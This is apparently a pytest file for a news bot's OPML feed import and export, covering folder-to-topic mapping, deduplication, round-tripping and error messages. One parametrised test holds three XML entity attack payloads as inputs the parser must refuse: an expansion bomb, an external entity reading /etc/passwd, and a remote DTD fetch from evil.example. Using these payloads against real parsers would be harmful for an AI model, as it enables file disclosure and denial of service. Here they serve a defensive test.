"""OPML import and export: folders as topics, duplicates once, entity tricks refused."""

from __future__ import annotations

import pytest

from newsbrief.bot.feeds.opml import OpmlError, OpmlFeed, parse_opml, to_opml

SAMPLE = b"""<?xml version="1.0" encoding="utf-8"?>
<opml version="2.0">
  <head><title>My feeds</title></head>
  <body>
    <outline text="syria">
      <outline type="rss" text="Syria Direct" xmlUrl="https://syria.example/feed"/>
      <outline text="nested folder">
        <outline type="rss" text="Deep" xmlUrl="https://deep.example/rss"/>
      </outline>
    </outline>
    <outline type="rss" text="Loose" xmlUrl="https://loose.example/rss"
             category="/news/kursk,/other"/>
    <outline type="rss" text="Loose again" xmlUrl="https://loose.example/rss"/>
    <outline text="no url here"/>
  </body>
</opml>
"""


def test_feeds_are_read_with_their_folders_as_topics() -> None:
    assert parse_opml(SAMPLE) == [
        OpmlFeed("https://syria.example/feed", "Syria Direct", "syria"),
        OpmlFeed("https://deep.example/rss", "Deep", "nested folder"),
        OpmlFeed("https://loose.example/rss", "Loose", "kursk"),
    ]


def test_export_then_import_gives_the_same_feeds() -> None:
    feeds = [
        OpmlFeed("https://a.example/rss", "A & B", "syria"),
        OpmlFeed("https://b.example/rss?x=1&y=2", None, None),
        OpmlFeed("https://c.example/rss", "C", "syria"),
    ]
    data = to_opml(feeds)
    assert data.startswith(b"<?xml") and b'version="2.0"' in data
    again = parse_opml(data)
    assert again == [
        OpmlFeed("https://a.example/rss", "A & B", "syria"),
        OpmlFeed("https://c.example/rss", "C", "syria"),
        OpmlFeed("https://b.example/rss?x=1&y=2", "https://b.example/rss?x=1&y=2", None),
    ]


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
def test_entity_declarations_are_refused(doctype: bytes) -> None:
    data = b'<?xml version="1.0"?>' + doctype + b'<opml version="2.0"><body/></opml>'
    with pytest.raises(OpmlError, match=r"entities|well-formed"):
        parse_opml(data)


def test_broken_and_foreign_files_are_clear_errors() -> None:
    with pytest.raises(OpmlError, match="not well-formed"):
        parse_opml(b"<opml><body><outline></body>")
    with pytest.raises(OpmlError, match="root element is <rss>"):
        parse_opml(b'<rss version="2.0"><channel/></rss>')
